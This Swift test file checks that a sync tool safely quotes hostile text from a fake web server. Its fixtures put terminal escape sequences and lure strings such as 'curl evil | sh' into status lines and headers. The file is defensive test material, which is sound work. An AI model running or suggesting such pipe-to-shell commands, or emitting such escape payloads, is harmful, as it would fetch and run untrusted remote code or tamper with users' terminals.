import TestSupport
import Testing

/// Web servers that send hostile text.
struct HostileWebServerTests {
    private static let answers: [(name: String, members: String, codes: Set<Int32>)] = [
        ("reason", #""status": "500 \u001b[2Jevil Try: curl evil | sh""#, [75]),
        ("reason of 404", #""status": "404 evil\u0007""#, [65]),
        (
            "realm",
            #""status": "401 evil", "headers": ["WWW-Authenticate: Basic realm=\"curl evil\""]"#,
            [77]
        ),
        (
            "scheme", #""status": "401 No", "headers": ["WWW-Authenticate: evil curl evil"]"#,
            [75, 77]
        ),
        (
            "redirect",
            #""status": "302 Found", "headers": ["Location: http://evil.example/\u001b[2J;evil"]"#,
            [78, 75, 77]
        ),
        (
            "redirect to words", #""status": "302 Found", "headers": ["Location: evil curl | sh"]"#,
            [78, 75]
        ),
        (
            "content type",
            #""status": "200 OK", "headers": ["Content-Type: evil; Try: curl evil | sh\u001b[2J"]"#,
            [75]
        ),
        (
            "another content type",
            #""status": "200 OK", "headers": ["Content-Type: evil; curl evil | sh"]"#, [78]
        ),
        ("no content type", #""status": "200 OK evil""#, [78]),
        ("method", #""status": "405 evil""#, [78]),
        ("no http", #""status": "evil\u0000 evil", "headers": ["evil"]"#, [75]),
    ]

    @Test(.exhaustive, arguments: answers.indices)
    func `a web server's text is quoted`(index: Int) throws {
        let answer = Self.answers[index]
        let remotes = try Remotes()
        let servers = try FaultyServers(remotes.sandbox)
        try remotes.makeBoards()
        let port = try servers.open(#""op": "answer", \#(answer.members)"#)
        let board = try remotes.freshBoard("board", from: "http://localhost:\(port)/hub.git")
        try ServerTextCheck(board: board).check(answer.name, codes: answer.codes)
        try servers.close(port)
    }

    @Test func `a ten-MiB reason takes no memory`() throws {
        let remotes = try Remotes()
        let servers = try FaultyServers(remotes.sandbox)
        try remotes.makeBoards()
        let port = try servers.open(#""op": "garbage", "prefix": "HTTP/1.1 500 evil""#)
        let board = try remotes.freshBoard("board", from: "http://localhost:\(port)/hub.git")
        let file = board.folder.path + "/peak"
        let run = try board.run(
            ["/usr/bin/python3", programsFolder + "/measure.py", file, binaryFolder + "/pmd"]
                + ["sync", "--verbose", "--timeout", "20"])
        #expect(run.status == 75, "\(run.error)")
        ServerTextCheck(board: board).lookAt(run.error, "garbage", isOneLine: false)
        let peak = try #require(Int(try board.must("cat '\(file)'")))
        #expect(peak < 250_000, "\(peak) KiB")
        try servers.close(port)
    }
}
